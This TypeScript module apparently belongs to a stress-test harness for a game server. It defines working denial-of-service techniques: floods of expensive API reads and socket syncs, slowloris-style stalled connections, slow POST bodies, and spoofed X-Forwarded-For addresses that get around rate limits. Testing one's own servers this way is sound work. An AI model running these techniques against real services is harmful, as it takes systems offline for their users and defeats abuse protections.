/**
 * Ways to take what everybody needs while saying nothing wrong, each of which may be tried alone. They come from few addresses,
 * as somebody has them who has some machines.
 */
import { io } from 'socket.io-client';
import { flooding } from './bytes.ts';
import { reenter } from './reenter.ts';
import { type Kind, type Target, type Try, say } from './say.ts';

/** From so many addresses, where a kind names no number. */
const ADDRESSES = 4;
/** In milliseconds. */
const PATIENCE = 20_000;

const pick = <Value>(values: readonly Value[]): Value => values[Math.floor(Math.random() * values.length)]!;
const anyOf = ({ target }: Try) => pick(target.matches);

async function read({ target, address }: Try, path: string): Promise<string> {
  const headers = { 'x-forwarded-for': address };
  const answer = await fetch(target.url + path, { headers, signal: AbortSignal.timeout(PATIENCE) });
  await answer.arrayBuffer();
  return answer.status === 429 ? 'refused' : answer.ok ? 'answered' : `status ${answer.status}`;
}

const head = (method: string, path: string, more = '') =>
  `${method} ${path} HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: ADDRESS\r\n${more}\r\n`;

const kinds = {
  /** As many questions as can be, at somebody else: what it costs a server that others of its machine are busy. */
  elsewhere: { workers: 16, act: (now) => read(now, '/') },
  /** The dearest reads there are. */
  past: { workers: 16, act: (now) => read(now, `/api/matches/${anyOf(now).id}/past?from=0&to=0`) },
  lists: {
    workers: 16,
    act: (now) => {
      const ids = now.target.matches.map(({ id }) => id).join(',');
      return read(now, pick(['/games/bazaar', '/api/matches', `/api/matches/some?ids=${ids}`]));
    },
  },
  /** Cheap ones, as many as can be. */
  looks: { workers: 16, act: (now) => read(now, `/api/matches/${anyOf(now).id}`) },
  /** Whole matches, told again and again by socket. */
  syncs: {
    workers: 8,
    act: async (now) => {
      const { id, game } = anyOf(now);
      const options = { transports: ['websocket'], forceNew: true, reconnection: false };
      const socket = io(`${now.target.url}/${game}`, { ...options, extraHeaders: { 'x-forwarded-for': now.address } });
      let told = 0;
      const asked = 20;
      await new Promise<void>((done) => {
        const over = setTimeout(done, 1000);
        socket.once('connect_error', () => done());
        socket.on('sync', () => {
          if (++told < asked) return;
          clearTimeout(over);
          done();
        });
        for (let each = 0; each < asked; each++) socket.emit('sync', id, null, undefined);
      });
      socket.close();
      return told === asked ? 'told' : 'cut short';
    },
  },
  /** Connections that say nothing, or half of something. */
  stalls: { workers: 60, act: (now) => say(now, now.index % 2 === 0 ? '' : 'GET /games HTTP/1.1\r\nHost: x\r\n') },
  /** Bodies that come a byte at a time. */
  bodies: {
    workers: 60,
    act: (now) => say(now, `${head('POST', '/games/bazaar/create', 'Content-Length: 9000\r\n')}{"a":"`, 'b'),
  },
  /** Much is asked for, again and again, and nothing of it read. */
  unread: { workers: 16, act: (now) => say(now, head('GET', '/games/bazaar').repeat(50)) },
  ...flooding,
  reentries: { workers: 2, act: ({ target, index }) => reenter(target.url, index) },
} as const satisfies Readonly<Record<string, Kind>>;

export type KindName = keyof typeof kinds;
export const KINDS = Object.keys(kinds) as readonly KindName[];

/** What drains a server. */
export const DRAINING = KINDS.filter((kind) => kind !== 'elsewhere');

/** What floods below messages. */
export const FLOODING = Object.keys(flooding) as readonly (keyof typeof flooding)[];

/** How often each thing has come of a kind. */
export type Tally = Readonly<Record<string, number>>;

/** Drains in some way until it is told to end, which tells what has come of it. */
export function drain(name: KindName, target: Target): () => Promise<Tally> {
  const tally: Record<string, number> = {};
  const until = { over: false };
  const { workers, act, addresses = ADDRESSES }: Kind = kinds[name];
  const base = 16 * KINDS.indexOf(name);
  const work = async (index: number) => {
    const address = `203.0.113.${base + (index % addresses)}`;
    while (!until.over) {
      const come = await act({ target, address, index, isOver: () => until.over }).catch(() => 'failed');
      tally[come] = (tally[come] ?? 0) + 1;
    }
  };
  const all = Array.from({ length: workers }, (_, index) => work(index));
  return async () => {
    until.over = true;
    await Promise.all(all);
    return tally;
  };
}
